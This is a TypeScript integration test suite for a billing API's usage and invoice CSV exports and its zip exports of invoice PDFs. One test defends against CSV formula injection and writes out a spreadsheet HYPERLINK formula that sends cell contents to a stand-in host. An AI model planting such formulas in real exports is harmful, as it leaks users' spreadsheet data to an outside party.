import { parseUsd } from '@app/money';
import { parse } from 'csv-parse';
import { createHash, randomUUID } from 'node:crypto';
import yauzl from 'yauzl';
import { ApiClient, JsonResponse } from '../support/api-client';
import { BillingStack } from '../support/billing-stack';
import { saveCard } from '../support/cards';
import { waitFor } from '../support/wait-for';
import { TEST_ADMIN_TOKEN } from '../support/test-stores';
import { Workspace } from '../support/workspace';

const MODEL = 'openai/gpt-4o-mini';
/** A model id with a comma and quotes (allowed: printable ASCII), which CSV must quote and escape. */
const ODD_MODEL = 'acme/chat,"large"';
/** A billing reference with a comma, quotes and a line break: it must come back from the CSV unchanged. */
const ODD_REFERENCE = 'Dept. 7, "Research"\nFloor 2';
const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/;
const DAY_MS = 24 * 3600 * 1000;

type Csv = Record<string, string>[];

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
const dateOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);

function parseCsv(text: string): Promise<Csv> {
  return new Promise((resolve, reject) =>
    parse(text, { columns: true }, (error, records: Csv) => (error ? reject(error) : resolve(records))),
  );
}

/** Every entry of a zip, by file name. */
function unzip(zip: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(zip, { lazyEntries: true }, (error, file) => {
      if (error || !file) return reject(error);
      const entries = new Map<string, Buffer>();
      file.on('entry', (entry: yauzl.Entry) => {
        file.openReadStream(entry, (openError, stream) => {
          if (openError || !stream) return reject(openError);
          const chunks: Buffer[] = [];
          stream.on('data', (chunk: Buffer) => chunks.push(chunk));
          stream.on('error', reject);
          stream.on('end', () => {
            entries.set(entry.fileName, Buffer.concat(chunks));
            file.readEntry();
          });
        });
      });
      file.on('end', () => resolve(entries));
      file.on('error', reject);
      file.readEntry();
    });
  });
}

/**
 * Issue 5 item 5 (judged e): CSV exports of usage and invoices, streamed from Postgres, parse back
 * with totals equal to the ledger's; zips of invoice PDFs built by the worker hold every PDF byte
 * for byte as stored in S3.
 */
describe('usage and invoice exports', () => {
  // Expired export zips are looked for every half second (the retention is the default 7 days).
  const stack = new BillingStack({
    workers: 1,
    stripe: true,
    s3: true,
    workerEnv: { INVOICE_EXPORT_PRUNE_INTERVAL_MS: '500' },
  });
  let ws: Workspace;
  let ownerKey: string;
  let memberKey: string;
  let billingKey: string;
  let eventIds: string[];
  let invoiceIds: string[];

  function expectError(response: JsonResponse, status: number, code: string): void {
    expect({ status: response.status, code: response.body?.error?.code }).toEqual({ status, code });
  }

  /** The sum of a metric's samples whose labels include all of `labels`, over the given apps. */
  async function metric(name: string, labels: string[], urls: string[]): Promise<number> {
    let total = 0;
    for (const url of urls) {
      const text = await (await fetch(`${url}/metrics`)).text();
      for (const line of text.split('\n')) {
        if (line.startsWith(`${name}{`) && labels.every((label) => line.includes(label))) {
          total += Number(line.slice(line.lastIndexOf(' ') + 1));
        }
      }
    }
    return total;
  }

  async function buy(amount: string): Promise<void> {
    const bought = await stack.admin.post(
      `${ws.path}/purchases`,
      { amount },
      { 'idempotency-key': randomUUID() },
    );
    expect(bought.status).toBe(201);
  }

  /** Usage spread over the last ten days, through ingest and the worker like a gateway's. */
  async function pushUsage(count: number): Promise<string[]> {
    const ids: string[] = [];
    const now = Date.now();
    for (let start = 0; start < count; start += 100) {
      const events = Array.from({ length: Math.min(100, count - start) }, (_, i) => {
        const n = start + i;
        return {
          id: `exp-${n}-${randomUUID().slice(0, 8)}`,
          account_id: ws.accountId,
          model: n % 3 === 0 ? ODD_MODEL : MODEL,
          prompt_tokens: 100 + ((n * 37) % 4000),
          completion_tokens: 10 + ((n * 11) % 900),
          cached_tokens: (n * 7) % 100,
          reasoning_tokens: (n * 3) % 10,
          occurred_at: new Date(now - 60_000 - ((n * 7919) % (10 * DAY_MS))).toISOString(),
        };
      });
      const response = await stack.gateway.post('/v1/usage/events', { events });
      expect(response.status).toBe(202);
      ids.push(...events.map((event) => event.id));
    }
    await stack.drained();
    return ids;
  }

  /** A download as a browser or curl would make it: the raw response and its whole text. */
  async function getCsv(token: string, path: string): Promise<{ response: Response; text: string }> {
    const response = await fetch(`${stack.api.url}${path}`, {
      headers: { authorization: `Bearer ${token}` },
    });
    return { response, text: await response.text() };
  }

  const apiAs = (key: string) => new ApiClient(stack.api.url, key);

  beforeAll(async () => {
    await stack.start();
    await stack.setPrice(MODEL, '0.15', '0.60', { cached_price_per_mtok: '0.075' });
    await stack.setPrice(ODD_MODEL, '3.10', '12.70');
    ws = await Workspace.create(stack);
    ownerKey = (await ws.createKey({ role: 'owner' })).key;
    memberKey = (await ws.createKey({ role: 'member' })).key;
    billingKey = (await ws.createKey({ role: 'billing' })).key;
    const profile = await stack.admin.put(`${ws.path}/billing-profile`, {
      legal_name: 'Export Testing, Inc.',
      address_line1: '1 Market St',
      city: 'San Francisco',
      region: 'CA',
      postal_code: '94105',
      country: 'US',
      purchase_order_number: 'PO-42,"A"',
      billing_reference: ODD_REFERENCE,
    });
    expect(profile.status).toBe(200);
    await saveCard(stack, ws);
    for (const amount of ['10.00', '25.50', '7.99']) await buy(amount);
    eventIds = await pushUsage(450);
    const rendered = await waitFor(
      () =>
        stack.stores.sql<{ id: string; pdf_key: string | null }[]>`
          select id, pdf_key from invoices where account_id = ${ws.accountId} order by issued_at, number`,
      (rows) => rows.length === 3 && rows.every((row) => row.pdf_key !== null),
      { what: 'the three invoices to be rendered' },
    );
    invoiceIds = rendered.map((row) => row.id);
  });

  afterAll(() => stack.stop());

  describe('usage.csv', () => {
    const range = () =>
      `from=${dateOf(Date.now() - 20 * DAY_MS)}&to=${new Date(Date.now() + 3600_000).toISOString()}`;

    it('is an RFC 4180 attachment whose costs add up to the usage debited in the ledger', async () => {
      const { response, text } = await getCsv(memberKey, `${ws.path}/usage.csv?${range()}`);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toMatch(
        /^attachment; filename="usage-[\d-]+_[\d-]+\.csv"$/,
      );
      expect(
        text.startsWith(
          'event_id,occurred_at,received_at,api_key_id,project_id,model,prompt_tokens,completion_tokens,cached_prompt_tokens,reasoning_tokens,cost_usd,price_version\r\n',
        ),
      ).toBe(true);

      const rows = await parseCsv(text);
      expect(rows.map((row) => row.event_id).sort()).toEqual([...eventIds].sort());
      const csvMicros = rows.reduce((sum, row) => sum + parseUsd(row.cost_usd), 0n);
      const [ledger] = await stack.stores.sql<{ total: bigint }[]>`
        select coalesce(sum(amount_micros), 0)::bigint as total
        from ledger_entries where account_id = ${ws.accountId} and kind = 'usage'`;
      expect(csvMicros).toBeGreaterThan(0n);
      expect(csvMicros).toBe(-ledger.total);
    });

    it('has the same event values as the usage API, oldest first, times in ISO-8601 UTC', async () => {
      const rows = await parseCsv((await getCsv(ownerKey, `${ws.path}/usage.csv?${range()}`)).text);
      const api = await stack.gateway.get(`${ws.path}/usage?limit=1000`);
      const byId = new Map<string, any>(api.body.data.map((event: any) => [event.event_id, event]));
      for (const row of rows) {
        const event = byId.get(row.event_id);
        expect({
          model: row.model,
          prompt_tokens: Number(row.prompt_tokens),
          completion_tokens: Number(row.completion_tokens),
          cached_tokens: Number(row.cached_prompt_tokens),
          reasoning_tokens: Number(row.reasoning_tokens),
          cost: row.cost_usd,
          occurred_at: new Date(row.occurred_at).toISOString(),
        }).toEqual({
          model: event.model,
          prompt_tokens: event.prompt_tokens,
          completion_tokens: event.completion_tokens,
          cached_tokens: event.cached_tokens,
          reasoning_tokens: event.reasoning_tokens,
          cost: event.cost,
          occurred_at: event.occurred_at,
        });
        expect(row.occurred_at).toMatch(ISO_UTC);
        expect(row.received_at).toMatch(ISO_UTC);
        expect(row.price_version).toMatch(/^\d+$/);
      }
      const times = rows.map((row) => row.occurred_at);
      expect(times).toEqual([...times].sort());
    });

    it('round-trips a model id holding a comma and quotes', async () => {
      const { text } = await getCsv(ownerKey, `${ws.path}/usage.csv?${range()}`);
      expect(text).toContain('"acme/chat,""large"""');
      const rows = await parseCsv(text);
      expect(rows.filter((row) => row.model === ODD_MODEL)).toHaveLength(Math.ceil(eventIds.length / 3));
    });

    it('prefixes an apostrophe to event ids a spreadsheet would run as formulas, and to nothing else', async () => {
      const other = await Workspace.create(stack);
      await stack.grant(other.accountId, '1.00');
      const tag = randomUUID().slice(0, 8);
      const ids = [
        `=HYPERLINK("https://x.example/?"&A1)-${tag}`,
        `+1+1-${tag}`,
        `-1-${tag}`,
        `@SUM(A1)-${tag}`,
        `ok-=-${tag}`,
      ];
      const events = ids.map((id) => ({
        id,
        account_id: other.accountId,
        model: MODEL,
        prompt_tokens: 100,
        completion_tokens: 10,
      }));
      expect((await stack.gateway.post('/v1/usage/events', { events })).status).toBe(202);
      await stack.drained();

      const key = (await other.createKey({ role: 'owner' })).key;
      const rows = await parseCsv((await getCsv(key, `${other.path}/usage.csv?${range()}`)).text);
      expect(rows.map((row) => row.event_id).sort()).toEqual(
        [...ids.slice(0, 4).map((id) => `'${id}`), ids[4]].sort(),
      );
      // Only the client's text: the cost and the other columns print as stored.
      for (const row of rows) expect(row.cost_usd).toMatch(/^\d+\.\d{6}$/);
    });

    it('holds exactly the events with from <= occurred_at < to', async () => {
      const all = await parseCsv((await getCsv(ownerKey, `${ws.path}/usage.csv?${range()}`)).text);
      const from = all[100].occurred_at;
      const to = all[200].occurred_at;
      const rows = await parseCsv(
        (await getCsv(ownerKey, `${ws.path}/usage.csv?from=${from}&to=${to}`)).text,
      );
      const expected = all.filter((row) => row.occurred_at >= from && row.occurred_at < to);
      expect(rows.map((row) => row.event_id)).toEqual(expected.map((row) => row.event_id));
      expect(rows.length).toBeGreaterThanOrEqual(99);
    });

    it('refuses bad ranges with a JSON error and a stable code', async () => {
      const owner = apiAs(ownerKey);
      expectError(
        await owner.get(`${ws.path}/usage.csv?from=2026-02-01&to=2026-01-01`),
        422,
        'invalid_range',
      );
      expectError(
        await owner.get(`${ws.path}/usage.csv?from=2025-01-01&to=2026-03-01`),
        422,
        'range_too_long',
      );
      expectError(await owner.get(`${ws.path}/usage.csv?from=yesterday`), 422, 'validation_failed');
      expectError(await owner.get(`${ws.path}/usage.csv?to=2026-02-30`), 422, 'validation_failed');
    });
  });

  describe('invoices.csv', () => {
    const range = () =>
      `from=${new Date(Date.now() - DAY_MS).toISOString()}&to=${new Date(Date.now() + DAY_MS).toISOString()}`;

    it('has one row per invoice, totals equal to the invoices and subtotals to the credits bought', async () => {
      const { response, text } = await getCsv(billingKey, `${ws.path}/invoices.csv?${range()}`);
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toMatch(
        /^attachment; filename="invoices-.+\.csv"$/,
      );
      const rows = await parseCsv(text);

      const invoices = await stack.stores.sql<{ number: string; total_micros: bigint }[]>`
        select number, total_micros from invoices where account_id = ${ws.accountId} order by issued_at, number`;
      expect(rows.map((row) => row.number)).toEqual(invoices.map((invoice) => invoice.number));
      const sum = (column: string) => rows.reduce((total, row) => total + parseUsd(row[column]), 0n);
      expect(sum('total')).toBe(invoices.reduce((total, invoice) => total + invoice.total_micros, 0n));

      const [purchased] = await stack.stores.sql<{ total: bigint }[]>`
        select coalesce(sum(amount_micros), 0)::bigint as total
        from ledger_entries where account_id = ${ws.accountId} and kind = 'purchase'`;
      expect(sum('subtotal')).toBe(purchased.total);
      expect(sum('subtotal')).toBe(parseUsd('43.49'));
      for (const row of rows) {
        expect(parseUsd(row.total)).toBe(parseUsd(row.subtotal) - parseUsd(row.discount) + parseUsd(row.tax));
        expect(row.total).toMatch(/^\d+\.\d{2}$/);
      }
    });

    it('shows each invoice as issued: card, tax, PO number and a billing reference with a comma, quotes and a line break', async () => {
      const rows = await parseCsv((await getCsv(billingKey, `${ws.path}/invoices.csv?${range()}`)).text);
      for (const row of rows) {
        expect(row).toEqual(
          expect.objectContaining({
            kind: 'purchase',
            status: 'paid',
            currency: 'USD',
            card_brand: 'visa',
            card_last4: '4242',
            tax_jurisdiction: 'US-CA',
            purchase_order_number: 'PO-42,"A"',
            billing_reference: ODD_REFERENCE,
          }),
        );
        expect(row.number).toMatch(/^INV-\d{4}-\d{6}$/);
        expect(row.issued_at).toMatch(ISO_UTC);
        expect(row.transaction_at).toMatch(ISO_UTC);
        expect(parseUsd(row.tax)).toBeGreaterThan(0n);
      }
    });

    it('is refused to a member key (billing data needs the billing role)', async () => {
      expectError(await apiAs(memberKey).get(`${ws.path}/invoices.csv`), 403, 'insufficient_role');
    });
  });

  describe('a large usage export', () => {
    let bulk: Workspace;
    const COUNT = 50_000;
    const start = Date.now() - 5 * DAY_MS;

    beforeAll(async () => {
      bulk = await Workspace.create(stack);
      const [price] = await stack.stores.sql<{ id: number }[]>`
        select id from model_prices where model_id = ${MODEL} order by version desc limit 1`;
      // One set-based insert, as the usage worker's unnest does, rather than 50,000 round trips.
      await stack.stores.sql`
        insert into usage_events (account_id, event_id, model_id, prompt_tokens, completion_tokens, cached_tokens,
                                  reasoning_tokens, cost_micros, price_version_id, batch_id, occurred_at, received_at)
        select ${bulk.accountId}, 'bulk-' || lpad(g::text, 6, '0'), ${MODEL}, g % 5000, g % 700, (g % 5000) / 4,
               (g % 700) / 5, (g * 37) % 100000, ${price.id}, 'bulk-batch',
               ${new Date(start)}::timestamptz + make_interval(secs => g), ${new Date(start)}::timestamptz + make_interval(secs => g + 1)
        from generate_series(1, ${COUNT}) g`;
    });

    const path = () =>
      `${bulk.path}/usage.csv?from=${dateOf(start - DAY_MS)}&to=${dateOf(Date.now() + DAY_MS)}`;

    it('streams every one of 50,000 events in order, with the exact total', async () => {
      const { response, text } = await getCsv(TEST_ADMIN_TOKEN, path());
      expect(response.status).toBe(200);
      // Streamed: sent in chunks as rows are read, so the length is not known up front.
      expect(response.headers.get('content-length')).toBeNull();
      expect(response.headers.get('transfer-encoding')).toBe('chunked');
      const rows = await parseCsv(text);
      expect(rows).toHaveLength(COUNT);
      expect(rows[0].event_id).toBe('bulk-000001');
      expect(rows[COUNT - 1].event_id).toBe(`bulk-0${COUNT}`);
      const [sum] = await stack.stores.sql<{ total: bigint }[]>`
        select sum(cost_micros)::bigint as total from usage_events where account_id = ${bulk.accountId}`;
      expect(rows.reduce((total, row) => total + parseUsd(row.cost_usd), 0n)).toBe(sum.total);
    });

    it('stops reading Postgres when the client goes away', async () => {
      const abortedBefore = await metric(
        'billing_exports_total',
        ['kind="usage_csv"', 'outcome="aborted"'],
        [stack.api.url],
      );
      const controller = new AbortController();
      const response = await fetch(`${stack.api.url}${path()}`, {
        headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` },
        signal: controller.signal,
      });
      const reader = response.body!.getReader();
      const first = await reader.read();
      expect(first.done).toBe(false);
      controller.abort();

      await waitFor(
        () => metric('billing_exports_total', ['kind="usage_csv"', 'outcome="aborted"'], [stack.api.url]),
        (count) => count === abortedBefore + 1,
        { what: 'the aborted export to be counted' },
      );
      // The cursor is closed: no session of the api is still inside the export's query.
      await waitFor(
        () =>
          stack.stores.sql<{ state: string }[]>`
            select state from pg_stat_activity
            where datname = current_database() and pid <> pg_backend_pid() and query like '%from usage_events e%'`,
        (sessions) => sessions.every((session) => session.state === 'idle'),
        { what: 'the export query to end' },
      );
      // And the api's connections are all usable again.
      const again = await getCsv(
        TEST_ADMIN_TOKEN,
        `${bulk.path}/usage.csv?from=${dateOf(start)}&to=${dateOf(start + DAY_MS)}`,
      );
      expect(again.response.status).toBe(200);
    });
    it('answers 503 exports_busy while every export slot is taken, and serves again once one is free', async () => {
      // The api runs with a pool of 4 connections (test stores), so 2 downloads may stream at once.
      const held = await Promise.all(
        [1, 2].map(async () => {
          const controller = new AbortController();
          const response = await fetch(`${stack.api.url}${path()}`, {
            headers: { authorization: `Bearer ${TEST_ADMIN_TOKEN}` },
            signal: controller.signal,
          });
          expect(response.status).toBe(200);
          await response.body!.getReader().read(); // started, then the client stops reading
          return controller;
        }),
      );
      const busy = await stack.admin.get(`${bulk.path}/usage.csv`);
      expectError(busy, 503, 'exports_busy');
      expect(busy.headers.get('retry-after')).toBe('5');

      for (const controller of held) controller.abort();
      const served = await waitFor(
        () =>
          getCsv(
            TEST_ADMIN_TOKEN,
            `${bulk.path}/usage.csv?from=${dateOf(start)}&to=${dateOf(start + DAY_MS)}`,
          ),
        (result) => result.response.status === 200,
        { what: 'a download to be served again' },
      );
      expect(served.text.startsWith('event_id,occurred_at,')).toBe(true);
    });
  });

  describe('zip export of invoice PDFs', () => {
    const dates = () => ({ from: dateOf(Date.now() - DAY_MS), to: dateOf(Date.now() + DAY_MS) });

    async function ready(exportId: string, client = apiAs(billingKey)): Promise<any> {
      const done = await waitFor(
        () => client.get(`${ws.path}/invoice-exports/${exportId}`),
        (response) => response.body?.status !== 'pending',
        { what: `export ${exportId} to be built` },
      );
      expect(done.status).toBe(200);
      return done.body;
    }

    it('holds every invoice PDF byte for byte as stored in S3, rendering first any that was not', async () => {
      // One invoice as if its render had not happened yet: the export renders it itself.
      const [unrendered] = await stack.stores.sql<{ pdf_sha256: string }[]>`
        select pdf_sha256 from invoices where id = ${invoiceIds[1]}`;
      await stack.stores.sql`
        update invoices set pdf_key = null, pdf_sha256 = null, pdf_rendered_at = null where id = ${invoiceIds[1]}`;
      const key = randomUUID();
      const requested = await apiAs(billingKey).post(`${ws.path}/invoice-exports`, dates(), {
        'idempotency-key': key,
      });
      expect(requested.status).toBe(202);
      expect(requested.body).toEqual(
        expect.objectContaining({ status: 'pending', ...dates(), download_url: null }),
      );

      const replay = await apiAs(billingKey).post(`${ws.path}/invoice-exports`, dates(), {
        'idempotency-key': key,
      });
      expect(replay.status).toBe(202);
      expect(replay.body.id).toBe(requested.body.id);

      const done = await ready(requested.body.id);
      expect(done).toEqual(
        expect.objectContaining({
          status: 'ready',
          invoice_count: 3,
          error: null,
          sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
        }),
      );
      expect(Date.parse(done.download_expires_at) - Date.now()).toBeLessThanOrEqual(300_000);

      const download = await fetch(done.download_url);
      expect(download.status).toBe(200);
      const zip = Buffer.from(await download.arrayBuffer());
      expect(sha256(zip)).toBe(done.sha256);

      const invoices = await stack.stores.sql<{ number: string; pdf_key: string; pdf_sha256: string }[]>`
        select number, pdf_key, pdf_sha256 from invoices where account_id = ${ws.accountId} order by issued_at, number`;
      expect(invoices.every((invoice) => invoice.pdf_key !== null)).toBe(true);
      const entries = await unzip(zip);
      expect([...entries.keys()]).toEqual(invoices.map((invoice) => `${invoice.number}.pdf`));
      for (const invoice of invoices) {
        const stored = await stack.s3!.storage.getBuffer(invoice.pdf_key);
        const entry = entries.get(`${invoice.number}.pdf`)!;
        expect(entry.subarray(0, 5).toString()).toBe('%PDF-');
        expect(entry.equals(stored)).toBe(true);
        expect(sha256(entry)).toBe(invoice.pdf_sha256);
      }
      // Rendered again by the export: the same bytes as before (the render is reproducible).
      const [again] = await stack.stores.sql<{ pdf_sha256: string }[]>`
        select pdf_sha256 from invoices where id = ${invoiceIds[1]}`;
      expect(again.pdf_sha256).toBe(unrendered.pdf_sha256);

      // Exactly one object for the export, however often its job ran.
      expect(await stack.s3!.keys(`exports/${ws.accountId}/`)).toEqual([
        `exports/${ws.accountId}/invoices-${requested.body.id}.zip`,
      ]);
      const audit = await stack.admin.get(`${ws.path}/audit-log?action=invoice_export.requested`);
      expect(audit.body.entries).toHaveLength(1);
      expect(
        await metric(
          'billing_exports_total',
          ['kind="invoice_zip"', 'outcome="completed"'],
          stack.workers.map((w) => w.url),
        ),
      ).toBeGreaterThanOrEqual(1);
    });

    it('holds an invoice dated before the request whose issuer had not committed yet', async () => {
      const late = await Workspace.create(stack);
      await saveCard(stack, late);
      // The issuer stalls after taking its number and dating the invoice, before its commit.
      await stack.stores.sql.unsafe(`
        create function slow_invoice_lines() returns trigger language plpgsql as $$
        begin
          if exists (select 1 from invoices where id = new.invoice_id and account_id = '${late.accountId}') then
            perform pg_sleep(2);
          end if;
          return new;
        end $$;
        create trigger slow_invoice_lines before insert on invoice_lines
          for each row execute function slow_invoice_lines();`);
      try {
        const purchase = stack.admin.post(
          `${late.path}/purchases`,
          { amount: '12.00' },
          { 'idempotency-key': randomUUID() },
        );
        await waitFor(
          () => stack.stores.sql<{ n: bigint }[]>`
            select count(*)::bigint as n from pg_stat_activity
            where datname = current_database() and wait_event = 'PgSleep'`,
          ([row]) => row.n === 1n,
          { what: 'the issuer to stall' },
        );
        const requested = await stack.admin.post(`${late.path}/invoice-exports`, dates());
        expect(requested.status).toBe(202);
        expect((await purchase).status).toBe(201);
        const done = await waitFor(
          () => stack.admin.get(`${late.path}/invoice-exports/${requested.body.id}`),
          (response) => response.body?.status !== 'pending',
          { what: 'the export to be built' },
        );
        expect(done.body).toMatchObject({ status: 'ready', invoice_count: 1 });
      } finally {
        await stack.stores.sql.unsafe(`
          drop trigger slow_invoice_lines on invoice_lines;
          drop function slow_invoice_lines();`);
      }
    });

    it('is an empty zip for dates without invoices', async () => {
      const requested = await apiAs(ownerKey).post(`${ws.path}/invoice-exports`, {
        from: '2025-01-01',
        to: '2025-01-31',
      });
      expect(requested.status).toBe(202);
      const done = await ready(requested.body.id, apiAs(ownerKey));
      expect(done.invoice_count).toBe(0);
      const zip = Buffer.from(await (await fetch(done.download_url)).arrayBuffer());
      expect((await unzip(zip)).size).toBe(0);
    });

    it('deletes the zip 7 days after it was built: the export shows expired, without a link', async () => {
      const requested = await apiAs(ownerKey).post(`${ws.path}/invoice-exports`, {
        from: '2025-02-01',
        to: '2025-02-28',
      });
      const done = await ready(requested.body.id, apiAs(ownerKey));
      const key = `exports/${ws.accountId}/invoices-${done.id}.zip`;
      expect(await stack.s3!.keys(key)).toEqual([key]);

      // Six days later it is still there; eight days later it goes.
      await stack.stores.sql`
        update invoice_exports set completed_at = now() - interval '6 days' where id = ${done.id}`;
      const kept = await apiAs(ownerKey).get(`${ws.path}/invoice-exports/${done.id}`);
      expect(kept.body).toMatchObject({ status: 'ready', download_url: expect.any(String) });
      await stack.stores.sql`
        update invoice_exports set completed_at = now() - interval '8 days' where id = ${done.id}`;
      const expired = await waitFor(
        async () => (await apiAs(ownerKey).get(`${ws.path}/invoice-exports/${done.id}`)).body,
        (body) => body.status === 'expired',
        { what: 'the export to expire' },
      );
      expect(expired).toMatchObject({
        id: done.id,
        status: 'expired',
        download_url: null,
        sha256: done.sha256,
      });
      expect(await stack.s3!.keys(key)).toEqual([]);
      // The other exports of this account keep their zips.
      expect((await stack.s3!.keys(`exports/${ws.accountId}/`)).length).toBeGreaterThan(0);
    });

    it('refuses bad dates with a stable code and records nothing', async () => {
      const before = await stack.stores.sql`select id from invoice_exports`;
      const owner = apiAs(ownerKey);
      expectError(
        await owner.post(`${ws.path}/invoice-exports`, { from: '2026-03-01', to: '2026-02-01' }),
        422,
        'invalid_range',
      );
      expectError(
        await owner.post(`${ws.path}/invoice-exports`, { from: '2024-01-01', to: '2025-12-31' }),
        422,
        'range_too_long',
      );
      expectError(
        await owner.post(`${ws.path}/invoice-exports`, { from: '2026-02-30', to: '2026-03-01' }),
        422,
        'validation_failed',
      );
      expectError(
        await owner.post(`${ws.path}/invoice-exports`, { from: '2026-01-01' }),
        422,
        'validation_failed',
      );
      expectError(
        await owner.post(`${ws.path}/invoice-exports`, dates(), { 'idempotency-key': 'q1 2026' }),
        400,
        'invalid_idempotency_key',
      );
      const key = randomUUID();
      expect(
        (await owner.post(`${ws.path}/invoice-exports`, dates(), { 'idempotency-key': key })).status,
      ).toBe(202);
      expectError(
        await owner.post(
          `${ws.path}/invoice-exports`,
          { from: '2025-01-01', to: '2025-01-02' },
          { 'idempotency-key': key },
        ),
        422,
        'idempotency_key_reused',
      );
      expect((await stack.stores.sql`select id from invoice_exports`).length).toBe(before.length + 1);
    });

    it("is not found from another workspace, by its id or under the other's path", async () => {
      const requested = await apiAs(ownerKey).post(`${ws.path}/invoice-exports`, dates());
      const other = await Workspace.create(stack);
      const otherKey = (await other.createKey({ role: 'owner' })).key;
      expectError(
        await apiAs(otherKey).get(`${other.path}/invoice-exports/${requested.body.id}`),
        404,
        'invoice_export_not_found',
      );
      expectError(
        await apiAs(otherKey).get(`${ws.path}/invoice-exports/${requested.body.id}`),
        404,
        'account_not_found',
      );
      expectError(await apiAs(otherKey).get(`${ws.path}/invoices.csv`), 404, 'account_not_found');
      expectError(await apiAs(otherKey).get(`${ws.path}/usage.csv`), 404, 'account_not_found');
      expectError(
        await apiAs(memberKey).post(`${ws.path}/invoice-exports`, dates()),
        403,
        'insufficient_role',
      );
    });
  });
});
